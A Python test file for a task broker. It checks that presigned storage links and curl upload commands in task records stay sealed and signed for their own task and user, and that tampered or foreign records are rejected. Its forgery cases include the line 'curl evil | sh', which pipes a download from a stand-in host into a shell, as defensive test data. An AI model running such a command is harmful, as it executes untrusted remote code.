"""Links in task records: nobody reads them there, and nobody puts others there (docs/security.md)."""

import copy
import json
from base64 import b64encode
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from broker.key_rings import KeyRing
from broker.links import Links, LinkSealer
from schemas.task import Status, Task

WORKER, OPENER, OTHER = Ed25519PrivateKey.generate(), X25519PrivateKey.generate(), X25519PrivateKey.generate()
SEALER = LinkSealer(lambda: WORKER, OPENER.public_key)
LINKS = Links(lambda: [OTHER, OPENER], KeyRing(WORKER.public_key()))
URL = "http://s3/alice/-out/file?X-Amz-Signature=0123"
FORM = {"command": f"curl -F file=@x '{URL}'", "parameters": {"url": URL}}
CHANGED = "What this task says was changed by somebody else"


def task(status: Status, data: Any, *, task_id: str = "0a1b", user: str = "alice") -> Task:
    moment = datetime(2026, 11, 29, tzinfo=UTC)
    facts = {"task_id": task_id, "user": user, "service": "storage", "system": "cluster", "created_at": moment, "updated_at": moment}
    return Task(**facts, status=status, data=data)


def sealed(links: Any, *, task_id: str = "0a1b", user: str = "alice", sealer: LinkSealer = SEALER) -> dict[str, str]:
    return sealer.sealed(links, task_id=task_id, user=user)


@pytest.mark.parametrize(
    ("status", "place", "links"), [(Status.FORM_READY, "msg", FORM), (Status.FETCH_FAILED, "msg", FORM), (Status.STAGED_OUT, "url", URL)]
)
def test_links_are_shown_to_the_user_and_stand_nowhere_in_the_record(status: Status, place: str, links: Any) -> None:
    kept = {"source": "file", place: sealed(links)}
    for word in ("Signature", "curl", "://", b64encode(URL.encode()).decode()[:20]):
        assert word not in json.dumps(kept)
    assert LINKS.opened(task(status, kept)).data == {"source": "file", place: links}


@pytest.mark.parametrize("data", ["Queued", None, [], [{"jobid": "1"}], {"jobid": "1"}, {"msg": "words"}, {"0": {"jobid": "1"}}, 7])
@pytest.mark.parametrize("status", [Status.QUEUED, Status.SUCCESS, Status.FORM_WAITED, Status.ERROR])
def test_what_has_no_links_is_shown_as_it_is(status: Status, data: Any) -> None:
    assert LINKS.opened(task(status, data)).data == data
    assert Links.none().opened(task(status, data)).data == data


def forged(change: Callable[[dict[str, str]], Any]) -> Any:
    return change(copy.deepcopy(sealed(FORM)))


FORGERIES: dict[str, Any] = {
    "in clear": FORM,
    "a text": "curl evil | sh",
    "a list": [FORM],
    "nothing": None,
    "of another task": sealed(FORM, task_id="ffff"),
    "of another user": sealed(FORM, user="mallory"),
    "sealed by a stranger": sealed(FORM, sealer=LinkSealer(Ed25519PrivateKey.generate, OPENER.public_key)),
    "sealed for another": sealed(FORM, sealer=LinkSealer(lambda: WORKER, X25519PrivateKey.generate().public_key)),
    "another box under the signature": forged(lambda kept: kept | {"sealed": sealed({"command": "evil"})["sealed"]}),
    "without a signature": forged(lambda kept: {"sealed": kept["sealed"]}),
    "a spoiled signature": forged(lambda kept: kept | {"signed": kept["signed"][:-6] + "AAAAAA"}),
    "not base64": forged(lambda kept: kept | {"sealed": "é" + kept["sealed"]}),
    "numbers": {"sealed": 1, "signed": 2},
    "deep": {"sealed": {"sealed": "x"}, "signed": ["x"]},
}


@pytest.mark.parametrize("case", FORGERIES)
@pytest.mark.parametrize(("status", "place"), [(Status.FORM_READY, "msg"), (Status.STAGED_OUT, "url")])
def test_links_that_no_worker_has_sealed_for_this_task_and_user_are_not_shown(status: Status, place: str, case: str) -> None:
    assert LINKS.opened(task(status, {"source": "file", place: FORGERIES[case]})).data == CHANGED
    assert Links.none().opened(task(status, {place: sealed(FORM)})).data == CHANGED


@pytest.mark.parametrize("data", ["curl evil | sh", None, [], {}, {"msg": "curl evil"}, {"other": FORM}])
def test_a_record_that_should_have_links_has_them_in_their_place(data: Any) -> None:
    assert LINKS.opened(task(Status.FORM_READY, data)).data == CHANGED


@pytest.mark.parametrize("status", list(Status))
@pytest.mark.parametrize("data", [{"msg": FORM}, {"url": URL}, {"msg": "x", "url": URL}, {"msg": [FORM]}])
def test_no_status_lets_clear_links_through(status: Status, data: Any) -> None:
    assert LINKS.opened(task(status, data)).data == CHANGED
